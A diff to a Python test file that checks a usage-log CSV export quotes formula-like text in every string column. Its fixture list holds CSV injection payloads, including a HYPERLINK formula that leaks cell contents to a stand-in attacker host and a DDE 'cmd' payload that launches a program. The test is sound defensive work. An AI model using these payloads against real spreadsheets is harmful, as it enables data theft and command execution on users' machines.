@@ -6,6 +6,7 @@ import csv
 import io
 import math
 import random
+import re
 from collections import defaultdict
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -17,7 +18,7 @@ from backend.tests.usage.helpers import ADMIN_TOKEN, fetch_rows, make_record
 from backend.tests.usage.portal import Portal, running_portal
 from backend.usage.record import UsageRecord
 from backend.usage.store import insert_batch
-from backend.usage.table import COLUMNS
+from backend.usage.table import COLUMNS, usage_log
 
 ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
 START = datetime(2026, 10, 1, tzinfo=UTC)
@@ -211,16 +212,24 @@ def _typed(cells: dict[str, str]) -> dict[str, Any]:
 
 
 FORMULAS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "=1+1",
     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'already quoted", "''twice", "plain-model",
+    '["=1+1","finance"]',  # user_groups as stored (a JSON list): text that starts no formula
 ]
+# Every column that holds a string: each may carry text from outside (an upstream's model,
+# a configuration's name, an IdP's cost centre or group), so each is neutralised.
+TEXT_COLUMNS = [c.name for c in usage_log.columns if c.type.python_type is str]
 
 
 async def test_the_export_neutralises_formulas_and_still_round_trips(portal: Portal) -> None:
+    assert {"model", "cost_center", "user_groups", "finish_reason"} <= set(TEXT_COLUMNS)
     stamp = START + timedelta(days=7)
     records = [
-        make_record(timestamp=stamp + timedelta(seconds=i), model=text, specialist_name=text,
-                    error_kind=text[:64], estimated_cost_usd=-1.5, output_tokens=0)
+        make_record(
+            timestamp=stamp + timedelta(seconds=i), estimated_cost_usd=-1.5, output_tokens=0,
+            # request_id too, made unique (the table's key for one request).
+            **{name: text + (str(i) if name == "request_id" else "") for name in TEXT_COLUMNS},
+        )
         for i, text in enumerate(FORMULAS)
     ]
     await insert_batch(portal.engine, records)
@@ -229,15 +238,23 @@ async def test_the_export_neutralises_formulas_and_still_round_trips(portal: Por
     })
     raw = list(csv.DictReader(io.StringIO(response.text)))
     assert len(raw) == len(FORMULAS)
-    for cells, text in zip(raw, FORMULAS, strict=True):
-        for name in ("model", "specialist_name", "error_kind"):
-            # What a spreadsheet sees: no text cell starts a formula, a quote shows text.
-            assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r")), cells[name]
-            assert cells[name] == (f"'{text}" if text[0] in "=+-@\t\r'" else text)
-        assert cells["estimated_cost_usd"] == "-1.5"  # a number, not text: left as it is
+    for cells, record in zip(raw, records, strict=True):
         typed = _typed(cells)
-        assert (typed["model"], typed["specialist_name"]) == (text, text)
+        for name in TEXT_COLUMNS:
+            stored = getattr(record, name)  # as the record bounded it to its column
+            # What a spreadsheet sees: no text cell starts a formula, a quote shows text.
+            assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r")), (name, stored)
+            assert cells[name] == (f"'{stored}" if stored[0] in "=+-@\t\r'" else stored), name
+            assert typed[name] == stored, name  # and a machine reads the stored value back
+        assert cells["estimated_cost_usd"] == "-1.5"  # a number, not text: left as it is
         assert typed["estimated_cost_usd"] == -1.5
+
+
+def test_the_usage_doc_lists_every_neutralised_column() -> None:
+    doc = (Path(__file__).resolve().parents[3] / "docs" / "usage.md").read_text()
+    sentence = re.search(r"The\s+text\s+columns\s+are([^.]*)\.", doc)
+    assert sentence is not None
+    assert re.findall(r"`(\w+)`", sentence.group(1)) == TEXT_COLUMNS
 
 
 async def test_admin_endpoints_need_the_token(portal: Portal) -> None:
